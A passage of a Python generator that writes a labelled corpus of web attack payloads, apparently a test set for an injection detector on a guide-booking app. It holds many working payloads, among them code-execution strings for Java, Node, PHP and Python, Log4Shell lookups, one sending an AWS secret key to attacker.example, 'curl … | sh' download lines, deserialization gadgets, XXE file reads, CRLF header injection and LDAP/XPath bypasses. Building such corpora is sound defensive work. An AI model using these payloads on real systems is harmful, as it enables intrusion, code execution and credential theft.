    ("el-injection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("ognl-injection", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl-injection", "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd',#a))}"),
    ("spel-injection", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ("spel-injection", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl attacker.example|sh'})}"),
    ("eval-python", "__import__('os').system('id')"),
    ("eval-python", "Allalin 4027 m\"+__import__('subprocess').getoutput('id')+\""),
    ("eval-node", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("eval-node", "process.mainModule.require('child_process').exec('curl attacker.example/x|sh')"),
    ("eval-node", "'; return this.constructor.constructor('return process')().env; //"),
    ("eval-php", "phpinfo();"),
    ("eval-php", "${system($_GET['c'])}"),
    ("eval-php", "<?php echo shell_exec('id'); ?>"),
    ("eval-php", "assert(\"system('id')\");"),
    ("eval-ruby", "#{%x(id)}"),
    ("log4shell", "${jndi:ldap://attacker.example/a}"),
    ("log4shell", "Route: Weissmies ${jndi:ldap://203.0.113.7:1389/Exploit}"),
    ("log4shell-obfuscated", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("log4shell-obfuscated", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/o}"),
    ("log4shell-obfuscated", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
    ("log4shell-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell-upper", "${jNdI:RmI://198.51.100.4:1099/obj}"),
    ("prototype-pollution", "__proto__[isAdmin]=true"),
    ("prototype-pollution", "constructor[prototype][role]=guide_admin"),
    ("prototype-pollution-json", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("csv-formula-dde", "=cmd|' /C calc'!A0"),
    ("csv-formula-dde", "Anna Müller=cmd|'/C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-formula-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Medical form\")"),
    ("csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/?c=\"&C2)"),
    ("csv-formula-plus", "+cmd|'/C calc'!A0"),
    ("csv-formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE gpx [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><gpx><wpt lat=\"46.02\" lon=\"7.74\"><name>&xxe;</name></wpt></gpx>"),
    ("xxe-oob", "<?xml version=\"1.0\"?><!DOCTYPE gpx [<!ENTITY % dtd SYSTEM \"http://attacker.example/evil.dtd\"> %dtd;]><gpx/>"),
    ("xxe-ssrf", "<!DOCTYPE kml [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><kml><Placemark><name>&x;</name></Placemark></kml>"),
    ("xxe-php-filter", "<!DOCTYPE r [<!ENTITY e SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><r>&e;</r>"),
    ("xinclude", "<trk xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></trk>"),
    ("xxe-billion-laughs", "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><l>&d;</l>"),
    ("yaml-python", "!!python/object/apply:os.system [\"curl attacker.example/y|sh\"]"),
    ("yaml-python", "route: !!python/object/new:subprocess.check_output [[\"id\"]]"),
    ("yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("yaml-ruby", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n           git_set: id\n       method_id: :resolve"),
    ("pickle-protocol0", "cos\nsystem\n(S'id'\ntR."),
    ("pickle-protocol0", "csubprocess\ncheck_output\n((S'curl'\nS'http://attacker.example/p'\nltR."),
    ("dotnet-jsonnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("dotnet-xaml", "<ResourceDictionary xmlns=\"http://schemas.microsoft.com/winfx/2006/xaml/presentation\" xmlns:x=\"http://schemas.microsoft.com/winfx/2006/xaml\" xmlns:s=\"clr-namespace:System;assembly=mscorlib\" xmlns:d=\"clr-namespace:System.Diagnostics;assembly=system\"><ObjectDataProvider x:Key=\"\" ObjectType=\"{x:Type d:Process}\" MethodName=\"Start\"><ObjectDataProvider.MethodParameters><s:String>cmd</s:String><s:String>/c calc</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>"),
    ("php-unserialize", "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\u0000*\u0000socket\";O:29:\"Monolog\\Handler\\BufferHandler\":7:{s:10:\"\u0000*\u0000handler\";r:2;s:13:\"\u0000*\u0000bufferSize\";i:-1;s:9:\"\u0000*\u0000buffer\";a:1:{i:0;a:2:{i:0;s:2:\"id\";s:5:\"level\";N;}}s:8:\"\u0000*\u0000level\";N;s:14:\"\u0000*\u0000initialized\";b:1;s:14:\"\u0000*\u0000bufferLimit\";i:-1;s:13:\"\u0000*\u0000processors\";a:2:{i:0;s:7:\"current\";i:1;s:6:\"system\";}}}"),
    ("php-unserialize", "a:1:{i:0;O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\u0000*\u0000events\";O:15:\"Faker\\Generator\":1:{s:13:\"\u0000*\u0000formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"\u0000*\u0000event\";s:2:\"id\";}}"),
]
CODE_PREFIXES = ["Email template: Hi ", "Route name: ", "Guide bio: "]
CODE_TAILS = [("ssti-jinja2", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
              ("log4shell", "${jndi:ldap://attacker.example/glacier}"),
              ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}")]
CODE_ENC = [0, 40]  # jinja2 + plain log4shell
# hand-written raw serialized streams; the generator applies base64 (one encoding) to them
CODE_B64 = [
    ("java-serialized+base64",
     b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+org.apache.commons.beanutils.BeanComparator"),
    ("pickle+base64", b"cos\nsystem\n(S'curl http://attacker.example/p|sh'\ntR."),
    ("java-serialized-aih+base64", b"\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;L\x00\x04typet\x00\x11Ljava/lang/Class;xps}\x00\x00\x00\x01\x00\rjava.util.Mapxr\x00\x17java.lang.reflect.Proxy"),
]

# ------------------------------------------------------------------ nosqli
NOSQLI = [
    ("plain-ne", "{\"$ne\": null}"),
    ("plain-gt", "{\"$gt\": \"\"}"),
    ("login-ne-json", "{\"email\": \"luca@example-guides.ch\", \"password\": {\"$ne\": \"x\"}}"),
    ("login-regex-json", "{\"$regex\": \"^a\"}"),
    ("login-regex-json", "{\"password\": {\"$regex\": \"^s3.*\"}}"),
    ("query-bracket-ne", "password[$ne]=1"),
    ("query-bracket-gt", "email[$gt]=&password[$gt]="),
    ("query-bracket-regex", "guide[$regex]=.*&guide[$options]=si"),
    ("query-bracket-in", "role[$in][]=admin&role[$in][]=ops"),
    ("query-bracket-exists", "medical_notes[$exists]=true"),
    ("where-js", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-js", "{\"$where\": \"this.password.match(/^a/) != null\"}"),
    ("where-js-string-breakout", "Allalin'; return true; var x='"),
    ("where-js-string-breakout", "CR-2391'; while(true){}; var a='"),
    ("where-js-string-breakout", "'; sleep(6000); '"),
    ("where-js-string-breakout", "Breithorn' || '1'=='1"),
    ("where-js-string-breakout", "x' && this.role == 'admin' && 'a'=='a"),
    ("where-function", "{\"$where\": \"function(){ return this.email.startsWith('a'); }\"}"),
    ("expr-json", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password\"}, 0]}}"),
    ("or-json", "{\"$or\": [{\"role\": \"guide\"}, {\"role\": {\"$ne\": \"guide\"}}]}"),
    ("nin-json", "{\"status\": {\"$nin\": [\"cancelled\"]}, \"client_id\": {\"$gt\": 0}}"),
    ("lookup-pipeline", "[{\"$lookup\": {\"from\": \"medical_forms\", \"localField\": \"client_id\", \"foreignField\": \"_id\", \"as\": \"m\"}}]"),
    ("function-operator", "{\"$function\": {\"body\": \"function(){ sleep(5000); return 1 }\", \"args\": [], \"lang\": \"js\"}}"),
    ("couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password_hash\"]}"),
    ("note-where", "Route filter: {\"route\": \"Mönch\", \"$where\": \"sleep(4000)\"}"),
]
NOSQLI_PREFIXES = ["lang=en&", "route=Allalin&date=2024-07-14&"]
NOSQLI_TAILS = [("query-bracket-ne", "guide[$ne]=nobody"), ("query-bracket-regex", "route[$regex]=^B")]

# ------------------------------------------------------------------ crlf
CRLF = [
    ("log-forging", "Allalin\n2024-07-14 08:02:11 INFO login success user=admin ip=10.0.0.2"),
    ("log-forging", "CR-2391 bridge thin\r\n[2024-07-14T09:00:00Z] AUDIT role changed: luca -> admin"),
    ("log-forging", "weissmies.gpx%0a2024-07-14 10:00:00 WARN payment refunded amount=CHF 4200 client=attacker"),
    ("log-forging", "guide note%0d%0a127.0.0.1 - - [14/Jul/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512"),
    ("log-forging-ansi", "Breithorn\u001b[2J\u001b[1;1Hsystem clean, no incidents"),
    ("log-forging-unicode-ls", "Mönch\u2028INFO medical form deleted by safety officer"),
    ("header-injection-setcookie", "en%0d%0aSet-Cookie: session=attacker; Path=/; HttpOnly"),
    ("header-injection-setcookie", "de\r\nSet-Cookie: gg_admin=1"),
    ("header-injection-location", "/thank-you?trip=allalin%0d%0aLocation: https://attacker.example/phish"),
    ("header-injection-redirect", "/booking/8821%0D%0ARefresh: 0; url=https://attacker.example/"),
    ("header-injection-cors", "https://www.example-guides.ch%0d%0aAccess-Control-Allow-Origin: https://attacker.example%0d%0aAccess-Control-Allow-Credentials: true"),
    ("response-splitting", "fr%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0aContent-Length:%2035%0d%0a%0d%0a<script>alert(document.cookie)</script>"),
    ("response-splitting", "it\r\n\r\n<html><body>Booking cancelled. Re-enter card at https://attacker.example</body></html>"),
    ("header-injection-double-encoded", "en%250d%250aSet-Cookie:%2520sid=attacker"),
    ("header-injection-utf8-trick", "en%E5%98%8A%E5%98%8DSet-Cookie:%20sid=attacker"),
    ("header-injection-lf-only", "es%0aX-Forwarded-Host: attacker.example"),
    ("header-injection-cr-only", "ja%0dContent-Security-Policy: script-src *"),
    ("header-injection-cache", "summer%0d%0aCache-Control: public, max-age=31536000%0d%0aX-Cache-Key: /account"),
    ("mail-header-bcc", "anna.mueller@example.ch\r\nBcc: list@attacker.example"),
    ("mail-header-cc", "client@example.com%0ACc: everyone@attacker.example"),
    ("mail-header-subject", "Trip confirmation\r\nBcc: dump@attacker.example\r\nX-Priority: 1"),
    ("mail-header-body", "Breithorn booking\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/pay\">Pay remaining balance</a>"),
    ("mail-header-from", "Luca Bernasconi\nFrom: safety@example-guides.ch\nReply-To: ops@attacker.example"),
    ("mail-header-to", "guide@example-guides.ch%0d%0aTo: victim1@attacker.example, victim2@attacker.example"),
    ("smtp-injection", "note.\r\n.\r\nMAIL FROM:<ops@example-guides.ch>\r\nRCPT TO:<victim@attacker.example>\r\nDATA\r\nSubject: Refund\r\n\r\nclick here\r\n.\r\n"),
    ("redis-via-crlf", "allalin\r\nSET gg:role:luca admin\r\n"),
    ("http-request-smuggling-header", "x%0d%0aTransfer-Encoding: chunked%0d%0a%0d%0a0%0d%0a%0d%0aGET /admin HTTP/1.1%0d%0aHost: localhost"),
]
CRLF_PREFIXES = ["lang=", "Crevasse report CR-2472"]
CRLF_TAILS = [("header-injection-setcookie", "%0d%0aSet-Cookie: sid=attacker"),
              ("log-forging", "\n2024-07-15 06:00:00 INFO safety check passed by admin")]

# ------------------------------------------------------------------ ldap-xpath
LDAPX = [
    ("ldap-plain-wildcard", "*)(uid=*))(|(uid=*"),
    ("ldap-login-bypass", "admin)(&)"),
    ("ldap-login-bypass", "luca*)(|(objectClass=*)"),
    ("ldap-attribute-probe", "guide*)(userPassword=*"),
    ("ldap-blind-char", "*)(|(mail=a*)(mail=b*"),
    ("ldap-or-injection", "Bernasconi)(|(cn=*"),
    ("ldap-description-exfil", "*)(description=*pass*"),
    ("ldap-null-terminate", "admin)(|(password=*))%00"),
    ("ldap-urlencode", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a"),
    ("ldap-hex-escape", "\\2a)(memberOf=cn=admins,ou=groups,dc=guides,dc=local"),
    ("xpath-plain", "' or '1'='1"),
    ("xpath-login", "luca' or 1=1 or 'a'='a"),
    ("xpath-union", "'] | //client/* | a['"),
    ("xpath-count", "x' or count(/*)=1 or 'a'='b"),
    ("xpath-blind-name", "x' or substring(name(/*[1]),1,1)='g' or 'a'='b"),
    ("xpath-blind-value", "' or substring(//guide[1]/password,1,1)='s"),
    ("xpath-string-length", "Allalin' and string-length(//user[1]/pass)>5 and '1'='1"),
    ("xpath-doc-exfil", "' or doc('http://attacker.example/'||name(/*))='x"),
]
LDAPX_PREFIXES = ["luca", "anna.mueller"]
LDAPX_TAILS = [("ldap-or-injection", "*)(|(uid=*)"), ("xpath-login", "x' or '1'='1")]


def enc_url(s):
    return urllib.parse.quote(s, safe="")


def build_cat(lits, prefixes, tails, enc_idx, n_joined, extra=()):
    vals = list(lits)
    seen = set(v for _, v in vals)

    def add(c, v):
        if v not in seen:
            seen.add(v)
            vals.append((c, v))
            return True
        return False

    for i in enc_idx:
        c, v = lits[i]
        add(c + "+urlencode", enc_url(v))
    for c, raw in extra:
        add(c, base64.b64encode(raw).decode("ascii"))
    made = 0
    tries = 0
    while made < n_joined and tries < 1000:
        tries += 1
        c, t = rng.choice(tails)
        if add(c + "+prefixed", rng.choice(prefixes) + t):
            made += 1
    return vals


def build():
    plan = [
        ("sqli", build_cat(SQLI, SQLI_PREFIXES, SQLI_TAILS, SQLI_ENC, 4)),
        ("xss", build_cat(XSS, XSS_PREFIXES, XSS_TAILS, XSS_ENC, 1)),
        ("cmdi", build_cat(CMDI, CMDI_PREFIXES, CMDI_TAILS, CMDI_ENC, 4)),
        ("traversal", build_cat(TRAV, TRAV_PREFIXES, TRAV_TAILS, TRAV_ENC, 3)),
        ("ssrf", build_cat(SSRF, SSRF_PREFIXES, SSRF_TAILS, SSRF_ENC, 3)),
        ("code", build_cat(CODE, CODE_PREFIXES, CODE_TAILS, CODE_ENC, 3, CODE_B64)),
        ("nosqli", build_cat(NOSQLI, NOSQLI_PREFIXES, NOSQLI_TAILS, [], 2)),
        ("crlf", build_cat(CRLF, CRLF_PREFIXES, CRLF_TAILS, [], 3)),
        ("ldap-xpath", build_cat(LDAPX, LDAPX_PREFIXES, LDAPX_TAILS, [], 2)),
    ]
    rows = []
    n = 0
    for cat, vals in plan:
        for c, v in vals:
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": c, "label": "attack", "value": v})
    return rows


LITERAL_COUNTS = {k: len(v) for k, v in [("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAV),
                                           ("ssrf", SSRF), ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF),
                                           ("ldap-xpath", LDAPX)]}


def main():
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for row in build():
            f.write(json.dumps(row, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
